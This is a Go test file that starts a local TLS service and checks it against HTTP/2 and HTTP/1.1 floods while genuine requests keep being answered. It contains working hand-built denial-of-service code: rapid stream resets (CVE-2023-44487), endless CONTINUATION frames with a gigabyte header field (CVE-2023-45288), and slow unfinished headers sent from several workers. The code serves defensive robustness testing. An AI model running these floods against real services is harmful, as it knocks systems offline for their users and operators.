//go:build linux && !race

package attacks_test

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
)

// Frames of HTTP/2 (RFC 9113 section 6) and their flags.
const (
	frameHeaders, frameReset, frameSettings, frameContinuation = 1, 3, 4, 9
	endStream, endHeaders                                      = 1, 4
)

// frame writes a frame.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	out := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(out, stream), payload...)
}

// fields is a request for a path, with a host, in HPACK (RFC 7541): two fields of the static table, and two literals with names of it.
func fields(path string) []byte {
	const post, https, pathName, authorityName = 0x83, 0x87, 0x04, 0x01
	out := append([]byte{post, https, pathName, byte(len(path))}, path...)
	return append(append(out, authorityName, 1), 'a')
}

// literal is a field with a name and a value that nobody has to remember.
func literal(name string, length int) []byte {
	out := append([]byte{0, byte(len(name))}, name...)
	out = append(out, 0x7f) // the length is 127 and what follows, seven bits an octet
	for length -= 127; length >= 128; length >>= 7 {
		out = append(out, byte(length)|0x80)
	}
	return append(out, byte(length))
}

// speak opens a connection over TLS for a protocol, nil where none is to be had. What the service says on it is read and thrown away.
func (a *attacker) speak(host int, protocol string) net.Conn {
	plain := a.connect(host)
	if plain == nil {
		return nil
	}
	conn := tls.Client(plain, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}, MinVersion: tls.VersionTLS12})
	ctx, cancel := context.WithTimeout(a.t.Context(), time.Minute)
	defer cancel()
	if err := conn.HandshakeContext(ctx); err != nil {
		return nil // it is one more than are taken
	}
	a.listening.Go(func() {
		_, _ = io.Copy(io.Discard, conn) // ends with the connection
	})
	return conn
}

// speakHTTP2 begins a connection of HTTP/2.
func (a *attacker) speakHTTP2(host int) net.Conn {
	conn := a.speak(host, "h2")
	if conn == nil {
		return nil
	}
	if _, err := conn.Write(append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...)); err != nil {
		return nil
	}
	return conn
}

// many runs an attack from several addresses at once and returns how often it was made.
func many(workers int, attack func(worker int) int) (times int) {
	var wg sync.WaitGroup
	var mu sync.Mutex
	for worker := range workers {
		wg.Go(func() {
			n := attack(worker)
			mu.Lock()
			defer mu.Unlock()
			times += n
		})
	}
	wg.Wait()
	return times
}

// resets opens streams and takes each back at once (CVE-2023-44487), on as many connections as the service lets it have.
func (a *attacker) resets(worker, streams int) (sent int) {
	cancelled := []byte{0, 0, 0, 8}
	for sent < streams {
		conn := a.speakHTTP2(70 + worker)
		if conn == nil {
			return sent
		}
		var burst bytes.Buffer
		for stream := uint32(1); sent < streams; stream += 2 {
			burst.Reset()
			for range 50 {
				burst.Write(frame(frameHeaders, endStream|endHeaders, stream, fields("/accounts/provision")))
				burst.Write(frame(frameReset, 0, stream, cancelled))
				stream += 2
			}
			sent += 50
			if _, err := conn.Write(burst.Bytes()); err != nil {
				break // the service has had enough of it
			}
		}
		_ = conn.Close() // as above
	}
	return sent
}

// continuations begins heads that never end, in frames as large as they may be (CVE-2023-45288).
func (a *attacker) continuations(worker, frames int) (sent int) {
	const most = 16 << 10
	filling := bytes.Repeat([]byte("A"), most)
	for sent < frames {
		conn := a.speakHTTP2(80 + worker)
		if conn == nil {
			return sent
		}
		// One field of a gigabyte, or very many small ones.
		begin, more := append(fields("/"), literal("x", 1<<30)...), filling
		if worker%2 == 0 {
			begin, more = fields("/"), bytes.Repeat([]byte{0, 1, 'x', 1, 'y'}, most/5)
		}
		_, err := conn.Write(frame(frameHeaders, endStream, 1, begin))
		for err == nil && sent < frames {
			_, err = conn.Write(frame(frameContinuation, 0, 1, more))
			sent++
		}
		sent++
		_ = conn.Close() // the service may have had enough of it
	}
	return sent
}

// slowHeads begins heads on many connections and does not end them, in both versions of HTTP.
func (a *attacker) slowHeads(worker, n int) (begun int) {
	for i := range n {
		if i%2 == 0 {
			conn := a.speakHTTP2(90 + worker)
			if conn != nil {
				if _, err := conn.Write(frame(frameHeaders, endStream, 1, fields("/"))); err == nil {
					begun++
				}
			}
			continue
		}
		conn := a.speak(90+worker, "http/1.1")
		if conn == nil {
			continue
		}
		if _, err := fmt.Fprintf(conn, "POST /accounts/provision HTTP/1.1\r\nHost: a\r\nX: %s", strings.Repeat("y", 1000)); err == nil {
			begun++
		}
	}
	return begun
}

// Streams that are taken back at once, heads without an end and heads that never come take bounded memory and log, and events are
// answered meanwhile.
func TestFloodsOfHTTP2(t *testing.T) {
	certificate, key := writeCertificate(t)
	s := start(t, fmt.Sprintf(", tls: { cert_file: %q, key_file: %q }", certificate, key), "")
	a := &attacker{t: t, address: s.address}
	defer a.letGo()
	sender := &http.Client{Transport: &http.Transport{
		DialContext: from(1), ForceAttemptHTTP2: true, DisableKeepAlives: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12},
	}}
	stop := genuine(t, s, "https://"+s.address+"/accounts/provision", sender)
	for _, c := range []struct {
		name   string
		attack func(worker int) int
	}{
		{"heads that never come", func(worker int) int { return a.slowHeads(worker, 60) }},
		{"streams taken back", func(worker int) int { return a.resets(worker, 4_000) }},
		{"heads without an end", func(worker int) int { return a.continuations(worker, 400) }},
	} {
		n := many(8, c.attack)
		t.Logf("%d times %s", n, c.name)
		if n == 0 {
			t.Errorf("nothing came of %s", c.name)
		}
	}
	t.Logf("%d events were answered", stop())
	within(t, s)
}
